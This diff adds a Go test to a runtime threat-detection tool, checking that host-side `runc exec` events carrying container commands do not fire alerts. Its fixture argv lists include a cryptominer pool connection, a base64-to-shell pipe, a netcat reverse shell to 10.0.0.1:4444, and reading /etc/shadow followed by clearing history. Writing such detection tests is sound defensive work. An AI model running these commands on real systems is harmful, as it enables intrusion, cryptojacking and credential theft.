@@ -485,3 +485,20 @@ func TestPrefilterAgreesWithCEL(t *testing.T) {
 	}
 	t.Logf("%d matchers x %d events = %d checks", len(ms), len(events), checked)
 }
+
+// `runc exec ID CMD` on the node carries the container command's argv; the
+// command is judged in its container, not again as the host's runc.
+func TestRuntimePassthroughIsNotAnAlert(t *testing.T) {
+	c := newCollector(t, loadRules(t, ""), nil)
+	for _, args := range [][]string{
+		{"runc", "exec", "6f10ad43", "/tmp/xmrig", "--donate-level", "1", "-o", "stratum+tcp://pool.supportxmr.com:3333"},
+		{"runc", "exec", "6f10ad43", "/bin/sh", "-c", "echo aWQ= | base64 -d | sh"},
+		{"runc", "exec", "6f10ad43", "/bin/nc", "-e", "/bin/sh", "10.0.0.1", "4444"},
+		{"runc", "exec", "6f10ad43", "/bin/sh", "-c", "cat /etc/shadow; history -c"},
+	} {
+		c.send(time.Second, &event.Event{Kind: event.ProcessExec, Process: &event.Process{Pid: 7, Exe: "/usr/sbin/runc", Args: args}})
+	}
+	for _, a := range c.alerts {
+		t.Errorf("%s fired on the runtime's copy of a container command: %q", a.Rule, a.Process.Args)
+	}
+}
